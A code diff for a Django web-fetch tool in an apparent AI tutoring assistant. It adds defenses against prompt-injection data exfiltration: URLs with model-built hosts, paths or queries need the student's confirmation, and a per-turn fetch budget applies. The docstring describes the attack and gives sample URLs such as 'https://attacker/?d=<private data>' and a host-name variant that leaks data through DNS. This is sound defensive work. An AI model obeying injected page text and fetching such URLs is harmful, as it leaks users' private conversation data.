@@ -10,10 +10,16 @@ body) in wall-clock time: a server dripping a byte every few seconds cannot hold
 Failures are results, never exceptions.
 
 A read tool normally runs at once, but an address can smuggle data out: an injected page can make
-an obedient model call ``web_fetch("https://attacker/?d=<private data>")``. So a URL whose path or
-query the model built itself - found neither in the student's messages nor in a search result of
-this turn - waits for the student's confirmation, on a card showing the whole address
-(``needs_confirmation``; the execute node supplies what was seen).
+an obedient model call ``web_fetch("https://attacker/?d=<private data>")``, or put the data in the
+host name (``https://<data>.attacker.example/``: the DNS lookup alone delivers it, before any check).
+So a URL whose host, path or query the model built itself - found neither in the student's messages
+nor in a search result of this turn, the host not one of ``WEB_FETCH_KNOWN_HOSTS`` either - waits for
+the student's confirmation, on a card showing the whole address (``needs_confirmation``; the execute
+node supplies what was seen). Nothing is resolved before that.
+
+One turn reads at most ``WEB_FETCH_PER_TURN`` pages in ``WEB_FETCH_SECONDS_PER_TURN`` seconds
+altogether (``FetchBudget``, in the cache, so a resumed turn in another process counts on): a turn
+that chained a dozen slow fetches held an assistant thread for three minutes.
 """
 
 from __future__ import annotations
@@ -31,6 +37,8 @@ from html.parser import HTMLParser
 from typing import Any
 from urllib.parse import unquote, urljoin, urlsplit
 
+from django.conf import settings
+from django.core.cache import cache
 from django.utils.translation import gettext as _
 from django.utils.translation import gettext_lazy
 
@@ -177,12 +185,13 @@ def _is_public(address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> bool:
                                       or address.is_private or address.is_loopback or address.is_link_local)
 
 
-def fetch(url: str, *, clock: Callable[[], float] = time.monotonic) -> tuple[str, Response]:
+def fetch(url: str, *, clock: Callable[[], float] = time.monotonic,
+          timeout: float = TIMEOUT_SECONDS) -> tuple[str, Response]:
     """Fetch a public URL, following checked redirects; returns the final URL and the response.
 
-    All hops share one deadline of ``TIMEOUT_SECONDS``.
+    All hops share one deadline of ``timeout`` seconds (at most ``TIMEOUT_SECONDS``).
     """
-    deadline = clock() + TIMEOUT_SECONDS
+    deadline = clock() + min(timeout, TIMEOUT_SECONDS)
     for _hop in range(MAX_REDIRECTS + 1):
         left = deadline - clock()
         if left <= 0:
@@ -252,18 +261,59 @@ def readable_text(body: bytes, content_type: str) -> tuple[str, str]:
 
 
 def url_carries_unseen_data(url: str, seen: Sequence[str]) -> bool:
-    """Whether ``url`` has a path or query that appears in none of ``seen`` (the student's messages,
-    this turn's search results): then the model made it up, and it may carry conversation data out."""
+    """Whether ``url`` has a host, path or query that appears in none of ``seen`` (the student's
+    messages, this turn's search results): then the model made it up, and it may carry conversation
+    data out. A host of ``WEB_FETCH_KNOWN_HOSTS`` counts as seen."""
     parts = urlsplit(url.strip())
+    texts = [_comparable(text) for text in seen]
+    if not _host_seen(_comparable(parts.hostname or ""), texts):
+        return True  # the name itself may spell the data, and resolving it would send it
     if parts.path in ("", "/") and not parts.query:
-        return False  # a bare site address carries nothing
+        return False  # a bare address of a known host carries nothing more
     target = _comparable(parts.netloc + parts.path + (f"?{parts.query}" if parts.query else ""))
-    return not any(target in _comparable(text) for text in seen)
+    return not any(target in text for text in texts)
+
+
+def _host_seen(host: str, texts: Sequence[str]) -> bool:
+    host = host.rstrip(".")
+    if not host:
+        return False
+    known = {name.strip().lower().rstrip(".") for name in settings.WEB_FETCH_KNOWN_HOSTS}
+    return host in known or any(host in text for text in texts)
 
 
 def _comparable(text: str) -> str:
     # Percent-encoding, letter case and a trailing slash do not make an address new.
     return unquote(text).lower().rstrip("/")
+
+
+class FetchBudget:
+    """The pages and seconds of fetching one turn has left (counted in the cache, per turn)."""
+
+    TTL = 3600  # longer than any turn, confirmations included
+
+    def __init__(self, ctx: ToolContext) -> None:
+        turn = ctx.turn_id or f"conversation-{ctx.conversation_id}"
+        self._count_key = f"web_fetch:count:{turn}"
+        self._millis_key = f"web_fetch:ms:{turn}"
+
+    def take(self) -> float:
+        """Count one page; return the seconds it may take, or raise FetchRefused when the turn's budget is spent."""
+        pages, seconds = settings.WEB_FETCH_PER_TURN, settings.WEB_FETCH_SECONDS_PER_TURN
+        left = seconds - (cache.get(self._millis_key) or 0) / 1000
+        if left <= 0.5:
+            raise FetchRefused(f"本轮读取网页的时间已用完（共 {seconds:g} 秒）。请用已读到的内容回答；"
+                               "还需要读别的网页时，请告诉学生，让他在下一条消息里再请你读。")
+        cache.add(self._count_key, 0, timeout=self.TTL)
+        if cache.incr(self._count_key) > pages:
+            raise FetchRefused(f"本轮已读取 {pages} 个网页，达到上限。请用已读到的内容回答；"
+                               "还需要读别的网页时，请告诉学生，让他在下一条消息里再请你读。")
+        return left
+
+    def spend(self, seconds: float) -> None:
+        """Add the time one fetch took."""
+        cache.add(self._millis_key, 0, timeout=self.TTL)
+        cache.incr(self._millis_key, max(1, int(seconds * 1000)))
 
 
 class WebFetchTool(Tool):
@@ -290,8 +340,9 @@ class WebFetchTool(Tool):
 
     def run(self, args: Mapping[str, Any], ctx: ToolContext, working: Working | None) -> ToolResult:
         limit = args.get("max_chars", DEFAULT_CHARS)
+        budget = FetchBudget(ctx)
         try:
-            url, answer = fetch(args["url"])
+            url, answer = _fetch_within(budget, args["url"])
             if answer.status >= 400:
                 raise FetchRefused(f"网页返回 HTTP {answer.status}。")
             content_type = answer.headers.get("content-type", "text/html")
@@ -308,6 +359,15 @@ class WebFetchTool(Tool):
                   "truncated": len(text) > limit or len(answer.body) > MAX_BYTES}
         return common.done(_("Read the page %(url)s.") % {"url": url}, common.as_json(result),
                            data={"url": url, "truncated": result["truncated"]})
+
+
+def _fetch_within(budget: FetchBudget, url: str) -> tuple[str, Response]:
+    seconds = budget.take()
+    started = time.monotonic()
+    try:
+        return fetch(url, timeout=seconds)
+    finally:
+        budget.spend(time.monotonic() - started)
 
 
 TOOL = WebFetchTool()
